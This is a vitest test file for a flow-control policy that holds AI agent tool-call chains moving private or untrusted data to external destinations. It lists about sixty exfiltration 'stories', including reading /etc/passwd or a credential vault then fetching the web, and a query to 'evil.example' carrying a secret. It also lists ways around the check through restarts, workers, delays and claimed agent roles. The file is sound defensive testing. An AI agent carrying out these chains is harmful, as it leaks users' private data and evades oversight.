/** 60 ways to carry private data out, and 60 days of work, over the path of a call. */
import { expect, it } from 'vitest';
import type { PolicyRules } from '../../policy/rules-data.ts';
import { Day } from './testing.ts';

const IN = ['private', 'untrusted'] as const;
const THEN = 'then';
const OPEN = ['untrusted', 'external'] as const;

/** What an owner writes for usual servers, and the rule of docs/flow.md. */
const RULES: PolicyRules = {
  agents: Object.fromEntries(['dev', 'reader', 'writer'].map((agent) => [agent, { allow: { servers: ['*'] } }])),
  labels: {
    mail: { 'read_*': IN, 'search_*': IN, send: ['external'], draft: [] },
    files: { 'read_*': ['private'], 'list*': ['private'], 'write_*': [] },
    wiki: { '*': ['private'] },
    web: { '*': OPEN },
    browser: { '*': OPEN },
    github: {
      'get_*': ['untrusted'],
      'list_*': ['untrusted'],
      read_private_file: ['private'],
      'create_*': ['external'],
      'add_*': ['external'],
      my_repositories: [],
    },
    chat: { 'read_*': IN, 'post_*': ['external'] },
    db: { '*': ['private'], schema: [] },
    crm: { '*': ['private'], 'export_*': ['private', 'external'] },
    calendar: { 'list_*': ['private'], invite: ['external'] },
    tickets: { 'read_*': ['untrusted'], 'reply_*': ['external'] },
    pay: { transfer: ['external'], balance: ['private'] },
    dns: { lookup: ['external'] },
    notes: { '*': [] },
    shop: { 'search_*': ['untrusted'], order: ['external'] },
  },
  flow: [{ after: IN, call: 'external', [THEN]: 'ask' }],
};

/** Tools that their servers describe: nothing stands in the rules about them. */
const SAID = new Map<string, Readonly<Record<string, unknown>>>([
  ['search.web', { openWorldHint: true, readOnlyHint: true }],
  ['vault.get', { returnMetadata: { source: 'internal', sensitivity: 'credentials' } }],
  ['vault.time', { openWorldHint: false }],
  ['publish.page', { inputMetadata: { destination: ['internal', 'public'], sensitivity: 'none', outcomes: 'benign' } }],
  ['forum.read', { returnMetadata: { source: 'untrustedPublic', sensitivity: 'none' } }],
]);

const STORIES: readonly (readonly string[])[] = [
  ['mail.read_inbox', 'web.fetch'],
  ['mail.read_inbox', 'mail.send'],
  ['mail.search_all', 'browser.navigate'],
  ['mail.read_inbox', 'github.create_issue'],
  ['mail.read_inbox', 'chat.post_message'],
  ['mail.read_inbox', 'calendar.invite'],
  ['mail.read_inbox', 'dns.lookup'],
  ['mail.read_inbox', 'pay.transfer'],
  ['mail.read_inbox', 'shop.order'],
  ['mail.read_inbox', 'search.web'],
  ['mail.read_inbox', 'publish.page'],
  ['chat.read_channel', 'web.fetch'],
  ['chat.read_channel', 'chat.post_direct'],
  ['chat.read_channel', 'crm.export_all'],
  ['github.get_issue', 'github.read_private_file', 'github.create_pull_request'],
  ['github.read_private_file', 'github.get_issue', 'github.create_pull_request'],
  ['github.get_issue', 'files.read_file', 'github.add_comment'],
  ['github.get_pull_request', 'files.read_env', 'web.fetch'],
  ['github.my_repositories', 'github.list_issues', 'github.read_private_file', 'github.create_gist'],
  ['browser.navigate', 'files.read_file', 'chat.post_message'],
  ['browser.navigate', 'files.read_file', 'browser.type'],
  ['files.read_file', 'browser.navigate', 'chat.post_message'],
  ['files.read_file', 'web.fetch', 'web.fetch'],
  ['files.read_file', 'web.search', 'web.fetch'],
  ['db.query', 'web.fetch', 'web.fetch'],
  ['db.query', 'tickets.read_ticket', 'tickets.reply_ticket'],
  ['tickets.read_ticket', 'db.query', 'tickets.reply_ticket'],
  ['tickets.read_ticket', 'crm.find_customer', 'mail.send'],
  ['tickets.read_ticket', 'crm.export_csv', 'crm.export_csv'],
  ['crm.find_customer', 'web.fetch', 'mail.send'],
  ['calendar.list_events', 'web.fetch', 'calendar.invite'],
  ['pay.balance', 'shop.search_items', 'pay.transfer'],
  ['shop.search_items', 'pay.balance', 'shop.order'],
  ['wiki.read_page', 'forum.read', 'dns.lookup'],
  ['vault.get', 'forum.read', 'publish.page'],
  ['vault.get', 'search.web', 'search.web'],
  ['forum.read', 'vault.get', 'mail.send'],
  // Prompts and resources.
  ['resource: mail.mail://inbox/1', 'web.fetch'],
  ['resource: files.file:///etc/passwd', 'web.fetch', 'web.fetch'],
  ['mail.read_inbox', 'resource: web.https://evil.example/?q=secret'],
  ['mail.read_inbox', 'prompt: web.summarise'],
  ['prompt: wiki.handbook', 'resource: tickets.ticket://7', 'tickets.reply_ticket'],
  ['resource: chat.chat://general', 'resource: browser.page://current'],
  // Programs, and other agents by a claim.
  ['code: mail.read_inbox', 'code: web.fetch'],
  ['code: files.read_file', 'github.get_issue', 'code: github.create_pull_request'],
  ['mail.read_inbox', 'code: mail.send'],
  ['as=reader: mail.read_inbox', 'as=writer: web.fetch'],
  ['modern: as=reader: mail.read_inbox', 'modern: as=writer: mail.send'],
  ['as=reader: files.read_file', 'as=writer: web.fetch', 'as=dev: web.fetch'],
  ['proven=reader: mail.read_inbox', 'proven=writer: web.fetch'],
  // Over sessions, processes, restarts and time.
  ['mail.read_inbox', 'new: web.fetch'],
  ['files.read_file', 'new: github.get_issue', 'new: github.create_gist'],
  ['modern: mail.read_inbox', 'modern: web.fetch'],
  ['mail.read_inbox', 'restart: web.fetch'],
  ['files.read_file', 'restart: new: web.fetch', 'restart: new: mail.send'],
  ['modern: mail.read_inbox', 'restart: modern: 7h: mail.send'],
  ['mail.read_inbox', 'worker: web.fetch'],
  ['worker: files.read_file', 'github.get_issue', 'worker: github.create_issue'],
  ['mail.read_inbox', '30h: web.fetch'],
  ['modern: mail.read_inbox', '5h: modern: mail.read_inbox', '6h: modern: web.fetch'],
  ['task: mail.read_inbox', 'web.fetch'],
  ['mail.read_inbox', '9h: new: again: mail.read_inbox', 'web.fetch'],
  ['files.read_file', '5h: tickets.read_ticket', '5h: worker: notes.add', 'tickets.reply_ticket'],
];

const DAYS: readonly (readonly string[])[] = [
  ['files.read_file', 'files.write_file', 'files.list', 'notes.add'],
  ['web.search', 'web.fetch', 'web.fetch', 'notes.add', 'web.fetch'],
  ['mail.read_inbox', 'mail.search_all', 'mail.draft', 'calendar.list_events'],
  ['calendar.list_events', 'calendar.invite', 'calendar.invite'],
  ['files.read_file', 'mail.send'],
  ['files.read_file', 'chat.post_message', 'chat.post_message'],
  ['github.read_private_file', 'github.create_pull_request', 'github.add_label'],
  ['github.my_repositories', 'github.read_private_file', 'files.read_file', 'github.create_pull_request'],
  ['github.get_issue', 'github.list_issues', 'github.add_comment', 'github.create_issue'],
  ['github.get_issue', 'web.fetch', 'web.search', 'github.add_comment'],
  ['github.get_issue', 'files.write_patch', 'notes.add', 'github.create_pull_request'],
  ['db.schema', 'db.query', 'db.query', 'files.write_report'],
  ['db.query', 'chat.post_message'],
  ['db.query', 'mail.send', 'mail.send'],
  ['crm.find_customer', 'mail.send', 'crm.export_csv'],
  ['crm.find_customer', 'calendar.invite', 'pay.balance'],
  ['tickets.read_ticket', 'tickets.reply_ticket', 'tickets.read_ticket', 'tickets.reply_ticket'],
  ['tickets.read_ticket', 'web.fetch', 'tickets.reply_ticket'],
  ['tickets.read_ticket', 'wiki.search', 'wiki.read_page', 'files.write_answer'],
  ['wiki.read_page', 'chat.post_message'],
  ['wiki.read_page', 'wiki.edit_page', 'mail.send'],
  ['shop.search_items', 'web.fetch', 'shop.order'],
  ['pay.balance', 'pay.transfer'],
  ['pay.balance', 'calendar.list_events', 'mail.send'],
  ['chat.read_channel', 'chat.read_thread', 'notes.add', 'wiki.read_page'],
  ['chat.read_channel', 'files.write_summary', 'mail.draft'],
  ['browser.navigate', 'browser.click', 'browser.type', 'browser.navigate'],
  ['browser.navigate', 'shop.order', 'web.fetch'],
  ['dns.lookup', 'web.fetch', 'dns.lookup'],
  ['search.web', 'search.web', 'web.fetch', 'publish.page'],
  ['forum.read', 'search.web', 'publish.page'],
  ['vault.get', 'vault.time', 'publish.page'],
  ['vault.time', 'search.web', 'mail.send'],
  ['vault.get', 'files.read_file', 'mail.send'],
  ['forum.read', 'forum.read', 'vault.time', 'notes.add'],
  ['resource: files.file:///srv/plan.md', 'files.write_plan', 'mail.send'],
  ['resource: wiki.wiki://home', 'prompt: wiki.handbook', 'chat.post_message'],
  ['prompt: web.summarise', 'resource: web.https://example.com', 'web.fetch'],
  ['resource: tickets.ticket://7', 'tickets.reply_ticket'],
  ['resource: notes.note://1', 'prompt: notes.weekly', 'notes.add', 'mail.send'],
  ['code: files.read_file', 'code: files.read_file', 'code: files.write_file', 'code: mail.send'],
  ['code: web.search', 'code: web.fetch', 'code: web.fetch'],
  ['code: db.query', 'code: db.query', 'code: chat.post_message'],
  ['code: github.list_issues', 'code: github.add_label'],
  ['code: mail.read_inbox', 'code: notes.add', 'code: mail.draft'],
  // Different callers, and agents that are proven, do not weigh on each other.
  ['owner=ann: mail.read_inbox', 'owner=bob: web.fetch', 'owner=bob: web.fetch'],
  ['owner=ann: files.read_file', 'owner=bob: web.fetch', 'owner=ann: mail.send'],
  ['proven=reader: mail.read_inbox', 'new: proven=writer: web.fetch', 'proven=writer: web.fetch'],
  ['modern: proven=reader: mail.read_inbox', 'modern: proven=writer: mail.send'],
  ['modern: files.read_file', 'modern: mail.send', 'modern: files.read_file'],
  // The next day is another one; outside of the session it is forgotten.
  ['mail.read_inbox', 'new: 9h: web.fetch', 'web.fetch'],
  ['modern: mail.read_inbox', 'modern: 9h: web.fetch', 'modern: web.fetch'],
  ['files.read_file', 'restart: new: 9h: web.fetch', 'new: web.fetch'],
  ['modern: web.fetch', '12h: modern: files.read_file', 'modern: mail.send'],
  ['worker: files.read_file', '24h: new: github.get_issue', 'github.create_issue'],
  ['restart: files.read_file', 'restart: mail.send', 'restart: files.read_file'],
  ['worker: web.fetch', 'web.fetch', 'worker: browser.navigate'],
  ['as=reader: web.fetch', 'as=writer: notes.add', 'as=writer: tickets.reply_ticket'],
  ['as=reader: files.read_file', 'as=writer: github.create_pull_request'],
  ['task: notes.add', 'files.read_file', 'mail.send', '30h: files.read_file', 'chat.post_message'],
];

it.each(STORIES.map((steps) => ({ story: steps.join(' > '), steps })))('is held: $story', async ({ steps }) => {
  expect(await new Day(RULES, SAID).fateOf(...steps)).toBe('asked');
});

it.each(DAYS.map((steps) => ({ day: steps.join(' > '), steps })))('is a day of work: $day', async ({ steps }) => {
  expect(await new Day(RULES, SAID).fateOf(...steps)).toBe('made');
});

it('there are 60 of each', () => {
  expect([STORIES.length, DAYS.length].every((count) => count >= 60)).toBe(true);
});
